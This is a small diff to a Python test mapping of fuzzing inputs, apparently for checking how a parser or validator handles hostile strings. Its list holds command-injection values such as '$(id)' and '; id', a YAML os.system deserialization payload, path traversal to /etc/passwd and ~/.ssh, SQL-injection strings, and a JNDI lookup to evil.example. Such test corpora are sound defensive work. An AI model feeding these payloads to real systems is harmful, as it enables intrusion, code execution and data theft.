@@ -145,7 +145,7 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
     "YAML, JSON and shell": (
         "*x", "&x y", "!!python/object/apply:os.system [id]", "{a: b}", "[a, b]", "- x", "x: y", "? x", "| x", "%TAG", "---",
         "...", "null", "~", "true", "no", "1e9", "0x10", "NaN", "-0", '{"a":1}', '"}', "\\u0000", "\\", "$(id)", "`id`", "; id",
-        "&& id", "| id", "> /tmp/x", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "~/.ssh", "C:\\x", "file:///etc/passwd", "-rf",
+        "&& id", "| id", "> /x", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "~/.ssh", "C:\\x", "file:///etc/passwd", "-rf",
         "--help", "*", "?", "%PATH%", "' OR 1=1 --", "'; DROP TABLE x; --", "${jndi:ldap://evil.example}", "\\\\evil\\x",
     ),
     "length": (
